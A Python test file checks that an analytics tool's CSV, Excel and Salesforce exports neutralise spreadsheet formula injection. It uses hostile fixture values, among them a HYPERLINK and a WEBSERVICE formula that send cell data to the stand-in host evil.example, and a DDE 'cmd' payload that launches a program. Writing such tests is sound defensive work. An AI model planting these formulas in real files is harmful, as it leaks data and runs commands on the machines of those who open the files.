"""Files safe to open: every CSV and Excel file we write keeps text that looks like a
formula from being evaluated (analytics/exports/cells.py), and numbers stay numbers.

Territory, rep and account names of the small world are replaced by hostile text, then each
writer is run and its file read back with the csv module and openpyxl, not with our code.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from conftest import write_csv

from analytics.cli import main
from analytics.exports.cells import safe_frame, safe_text
from analytics.store import Store

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "@SUM(A1:A9)",
           "-2+3", "\t=1+1", "\r=cmd|' /C calc'!A0"]
NAMES = dict(zip(["T1", "T2", "T3", "T4", "T5"], HOSTILE, strict=False))


@pytest.mark.parametrize(("value", "written"), [
    *[(h, "'" + h) for h in HOSTILE],
    ("=", "'="), ("-", "'-"), ("@", "'@"),
    ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("-.5", "-.5"), ("12", "12"),  # plain numbers
    ("Boston", "Boston"), (" =1", " =1"), ("a=b", "a=b"), ("", ""),
    (-5, -5), (1.5, 1.5), (None, None),
])
def test_the_rule(value, written):
    assert safe_text(value) == written


def test_numeric_columns_stay_numbers():
    frame = pd.DataFrame({"name": ["=1+1", "ok"], "amount": [-5.0, 2.0], "n": [-1, 3]})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "ok"]
    assert out["amount"].tolist() == [-5.0, 2.0]
    assert out["n"].dtype == frame["n"].dtype
    assert frame["name"].tolist() == ["=1+1", "ok"]  # the input is not changed


def test_categorical_and_string_columns_are_text_too():
    frame = pd.DataFrame({"segment": pd.Categorical(["@SUM(A1)", "SMB", "@SUM(A1)"]),
                          "name": pd.array(["+1+1", None, "x"], dtype="string"),
                          "when": pd.to_datetime(["2026-01-01"] * 3), "ok": [True] * 3})
    out = safe_frame(frame)
    assert out["segment"].tolist() == ["'@SUM(A1)", "SMB", "'@SUM(A1)"]
    assert out["name"].tolist()[0] == "'+1+1"
    assert pd.isna(out["name"].tolist()[1])
    assert out["when"].dtype == frame["when"].dtype
    assert out["ok"].dtype == bool


@pytest.fixture
def hostile_db(small_copy):
    with Store(small_copy) as s:
        cur = s.cursor()
        for t, name in NAMES.items():
            cur.execute("UPDATE territories SET name = ? WHERE territory_id = ?", [name, t])
        cur.execute("UPDATE reps SET name = ? WHERE rep_id = 'R1'", ["@SUM(A1:A9)"])
        cur.execute("UPDATE accounts SET name = ?", [HOSTILE[0]])
    return small_copy


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_command_line_csv(hostile_db, capsys):
    assert main(["summary", "--db", str(hostile_db), "--format", "csv"]) == 0
    table = csv_cells(capsys.readouterr().out)
    head, body = table[0], table[1:]
    names = {r[head.index("territory_id")]: r[head.index("territory_name")] for r in body}
    for t, name in NAMES.items():
        assert names[t] == "'" + name
    for r in body:  # numbers are written as numbers
        float(r[head.index("potential")])


def test_command_line_csv_of_plan_names(hostile_db, capsys):
    with Store(hostile_db) as s:
        s.cursor().execute("UPDATE plans SET name = ? WHERE name = 'Base'", ["-2+3"])
    assert main(["plan", "list", "--db", str(hostile_db), "--format", "csv"]) == 0
    table = csv_cells(capsys.readouterr().out)
    names = [r[table[0].index("name")] for r in table[1:]]
    assert "'-2+3" in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_excel_export_keeps_text_as_text(hostile_db, tmp_path):
    out = tmp_path / "plan.xlsx"
    assert main(["export", "--db", str(hostile_db), "--format", "xlsx", "--out", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    seen = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (ws.title, cell.coordinate)  # text when edited
                    seen += 1
                elif isinstance(cell.value, str):
                    assert not cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert seen >= len(NAMES)  # the names are there, exactly as typed
    head = [c.value for c in book["territories"][1]]  # numeric columns are still numbers
    potential = [r[head.index("potential")].value for r in book["territories"].iter_rows(2)]
    assert all(isinstance(v, (int, float)) for v in potential if v is not None)


def test_salesforce_bundle(hostile_db, tmp_path):
    out = tmp_path / "bundle.zip"
    assert main(["export", "--db", str(hostile_db), "--format", "salesforce", "--out",
                 str(out)]) == 0
    cells = []
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                cells += [c for row in csv_cells(zf.read(name).decode("utf-8")) for c in row]
    assert cells
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit(), c
    assert "'" + NAMES["T1"] in cells


def test_rejection_report(tmp_path, capsys):
    acc = write_csv(tmp_path / "accounts.csv", [
        ["account_id", "name", "lat", "lon", "potential"],
        ["A1", "ok", "42.36", "-71.06", "=1+1"],
        ["A2", "ok", "41.88", "-87.63", "100"],
    ])
    report = tmp_path / "rejected.csv"
    code = main(["load", "--db", str(tmp_path / "x.duckdb"), "--accounts", str(acc),
                 "--report", str(report)])
    assert code == 2
    table = csv_cells(report.read_text(encoding="utf-8"))
    head, body = table[0], table[1:]
    assert [r[head.index("value")] for r in body] == ["'=1+1"]
    assert body[0][head.index("row")] == "2"  # numbers stay numbers


def test_app_downloads():
    from ui.downloads import csv_bytes, excel_bytes

    frame = pd.DataFrame({"territory_name": HOSTILE, "potential": [-5.0] * len(HOSTILE)})
    # a comma in a value must not start a cell of its own (`Q3,=WEBSERVICE(...)`)
    filters = {"plan": HOSTILE[0], "territory": 'Q3,=WEBSERVICE("http://evil.example/"&A5)',
               "rep": "@SUM(A1:A9)"}
    text = csv_bytes(frame, filters).decode("utf-8")
    head = []
    while text.startswith("#"):  # the filter lines come first
        line, text = text.split("\r\n", 1)
        head.append(next(csv.reader([line])))
    assert head == [["# plan:", "'" + HOSTILE[0]], ["# territory:", filters["territory"]],
                    ["# rep:", "'@SUM(A1:A9)"]]
    back = pd.read_csv(io.BytesIO(csv_bytes(frame, filters)), comment="#")
    assert back["potential"].tolist() == [-5.0] * len(HOSTILE)  # read back by pandas
    table = csv_cells(text)
    assert [r[0] for r in table[1:]] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in table[1:]} == {"-5.0"}
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame, filters)))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    # (xlsxwriter stores a carriage return as the OOXML escape _x000D_, which Excel reads
    # back as "\r" and openpyxl leaves as it is)
    values = [c.value.replace("_x000D_", "\r") for c in book.worksheets[0]["A"][1:]]
    assert values == HOSTILE  # exactly as typed, stored as text
    assert all(c.data_type == "s" and c.quotePrefix for c in book.worksheets[0]["A"][1:])
    assert book.worksheets[0]["B2"].value == -5
    assert book["filters"]["B2"].quotePrefix
    assert book["filters"]["B2"].value == HOSTILE[0]
